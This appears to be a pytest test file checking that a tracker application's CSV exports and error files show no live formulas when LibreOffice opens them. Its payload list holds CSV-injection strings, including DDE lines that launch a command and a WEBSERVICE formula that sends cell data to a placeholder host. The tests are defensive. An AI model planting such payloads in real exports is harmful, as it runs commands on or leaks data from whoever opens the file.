"""What Tracker writes as CSV, opened by a real spreadsheet program: every cell is a text."""

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.web.serving import Customer, somebody
from tests.web.test_suppression_exports import HOSTILE
from tests.web.test_suppression_imports import export
from tests.web.test_suppression_rows import add
from tracker.domain.csv_tables import written_record

pytestmark = pytest.mark.anyio

PACKAGE = Path(__file__).parents[2] / "tracker"
CELLS = [
    *HOSTILE,
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1"',
    '",=1+1,"',
    '"\r\n=1+1,"',
    "x\n=1+1",
    "'=1+1",
    "''=1+1",
    '=WEBSERVICE("http://x.example/"&A1)',
    "=1+1;=2+2",
    "{=1+1}",
]


def formulas(csv: bytes, folder: Path) -> list[str]:
    """The cells of this file that LibreOffice evaluates. Skips where there is none."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("install LibreOffice (libreoffice-calc-nogui) to open what is exported in a spreadsheet")
    (folder / "opened.csv").write_bytes(csv)
    command = [program, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--infilter=CSV:44,34,76,1"]
    subprocess.run(
        [*command, "--convert-to", "fods", "opened.csv"], cwd=folder, check=True, capture_output=True, timeout=120
    )
    sheet = (folder / "opened.fods").read_text("utf-8")
    assert sheet.count("<table:table-row") > 1
    return re.findall(r'table:formula="([^"]*)"', sheet)


@pytest.mark.fault
async def test_export_opened_in_a_spreadsheet_has_no_formula(customer: Customer, tmp_path: Path) -> None:
    """B-15: of the words of an address, a topic and a note."""
    for text in CELLS:
        await add(customer, somebody(), note=text)
    for topic in ("=1+1", "@SUM(1)", "＝1+1", "-1+2"):
        await add(customer, f"=1+1{somebody()}", topic=topic)
    assert formulas((await export(customer)).encode(), tmp_path) == []


@pytest.mark.fault
async def test_spreadsheet_evaluates_what_is_not_guarded(tmp_path: Path) -> None:
    """The test above sees a formula when there is one, also in quotation marks."""
    assert formulas(b'"email","note"\r\n"ada@example.com","=1+1"\r\n', tmp_path) == ["of:=1+1"]


@pytest.mark.fault
async def test_file_of_bad_lines_has_no_formula(tmp_path: Path) -> None:
    """B-15: ``tracker import --errors`` writes its records in the same way."""
    file = "".join(written_record((str(number), text)) for number, text in enumerate(CELLS))
    assert formulas(file.encode(), tmp_path) == []


def test_every_csv_is_written_in_one_way() -> None:
    """B-15: whoever writes a table writes it with ``written_record``, which guards every cell."""
    texts = {path.relative_to(PACKAGE).as_posix(): path.read_text("utf-8") for path in PACKAGE.rglob("*.py")}
    assert [name for name, text in texts.items() if re.search(r"csv\.(?:writer|DictWriter)", text)] == []
    writers = {name for name, text in texts.items() if "written_record" in text}
    assert writers >= {"domain/csv_tables.py", "web/suppression_exports.py", "cli/list_imports.py"}
